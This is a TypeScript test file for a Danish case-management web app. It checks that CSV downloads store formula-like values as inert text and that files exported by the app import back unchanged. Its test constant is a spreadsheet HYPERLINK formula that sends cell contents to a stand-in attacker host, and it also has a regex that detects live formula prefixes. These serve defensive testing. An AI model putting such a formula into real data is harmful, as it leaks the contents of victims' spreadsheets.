/**
 * Finding #2 of the hardening issue (CSV formula injection): every CSV download writes a value
 * that starts like a formula as inert text, and the importers read our own files back unchanged.
 */
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { caseOfficer707 } from '../../../test/support/actors.ts';
import { anonymousForm, cookieHeader } from '../../../test/support/auth.ts';
import { resetDatabase } from '../../../test/support/database.ts';
import { loadDemoInto } from '../../../test/support/demo.ts';
import { startTestApp, type TestApp } from '../../../test/support/test-app.ts';
import { excelCsv, restoreCell } from '../../domain/shared/spreadsheet-csv.ts';

const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")';
/** A cell Excel or LibreOffice would run as a formula. */
const LIVE = /^[=+\-@\t\r]/;

function cells(body: string): string[][] {
  return parse(body.replace(/^\uFEFF/, ''), { delimiter: ';', relax_column_count: true }) as string[][];
}

describe('CSV downloads and formula injection', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await startTestApp({ resolveActor: async () => caseOfficer707 });
  });
  beforeEach(async () => {
    await resetDatabase(t.database.db);
    await loadDemoInto(t.database);
    const db = t.database.db;
    const person = await db
      .selectFrom('person')
      .select('id')
      .where('municipality', '=', '707')
      .orderBy('id')
      .executeTakeFirstOrThrow();
    await db
      .updateTable('person')
      .set({ name: EVIL, phone: '+4586000000' })
      .where('id', '=', person.id)
      .execute();
    await db
      .updateTable('housing_organisation')
      .set({ name: EVIL })
      .where('id', '=', 'org-djurslandsbo')
      .execute();
    const dep = await db
      .selectFrom('department')
      .select('id')
      .where('organisation_id', '=', 'org-nordlyset')
      .orderBy('id')
      .executeTakeFirstOrThrow();
    await db
      .updateTable('department')
      .set({ name: EVIL, address: '@Vej 1' })
      .where('id', '=', dep.id)
      .execute();
    await db.updateTable('agreement').set({ text: EVIL }).where('municipality', '=', '707').execute();
  });
  afterAll(async () => {
    await t.close();
  });

  it.each(['/personer.csv', '/afdelinger.csv', '/aftaler/aabne.csv', '/boligorganisationer.csv'])(
    '%s holds the formula as inert text and no live cell',
    async (url) => {
      const res = await t.app.inject({ method: 'GET', url });
      expect(res.statusCode).toBe(200);
      const all = cells(res.body).flat();
      expect(all).toContain(`'${EVIL}`);
      expect(all.filter((c) => LIVE.test(c))).toEqual([]);
      // Read back with the importers' rule, the value is the one stored.
      expect(all.map(restoreCell)).toContain(EVIL);
    },
  );

  it('imports the exported status file back: formula-like text is kept exactly, not run', async () => {
    const exported = await t.app.inject({ method: 'GET', url: '/aftaler/aabne.csv' });
    const [header, ...rows] = cells(exported.body);
    const row = rows.find((r) => r[6] === 'I gang' || r[6] === 'Aftalt');
    if (!header || !row) throw new Error('the demo lacks open agreements');
    const note = `${EVIL} -1`;
    const edited = rows.map((r) => (r === row ? [...r.slice(0, 6), 'Opfyldt', '2026-11-20', note, ''] : r));
    // Written again by the same writer, as a file saved by the product would be.
    const file = excelCsv(
      header.map(restoreCell),
      edited.map((r) => r.map(restoreCell)),
    );
    const browser = await anonymousForm(t.app, '/aftaler/statusfil');
    const boundary = '----csvtest';
    const payload = Buffer.concat([
      Buffer.from(
        `--${boundary}\r\nContent-Disposition: form-data; name="_csrf"\r\n\r\n${browser.csrfToken}\r\n`,
      ),
      Buffer.from(
        `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="a.csv"\r\nContent-Type: text/csv\r\n\r\n`,
      ),
      Buffer.from(file, 'utf8'),
      Buffer.from(`\r\n--${boundary}--\r\n`),
    ]);
    const res = await t.app.inject({
      method: 'POST',
      url: '/aftaler/statusfil',
      headers: {
        cookie: cookieHeader(browser.cookies),
        'content-type': `multipart/form-data; boundary=${boundary}`,
      },
      payload,
    });
    expect(
      res.statusCode,
      res.body
        .replace(/<[^>]+>/g, ' ')
        .replace(/\s+/g, ' ')
        .slice(-1500),
    ).toBe(200);
    expect(res.body).toContain('1 aftaler har fået ny status');
    const change = await t.database.db
      .selectFrom('agreement_status_change')
      .select(['note', 'status'])
      .where('agreement_id', '=', row[0] ?? '')
      .orderBy('id', 'desc')
      .executeTakeFirstOrThrow();
    expect(change).toEqual({ note, status: 'fulfilled' });
  });
});
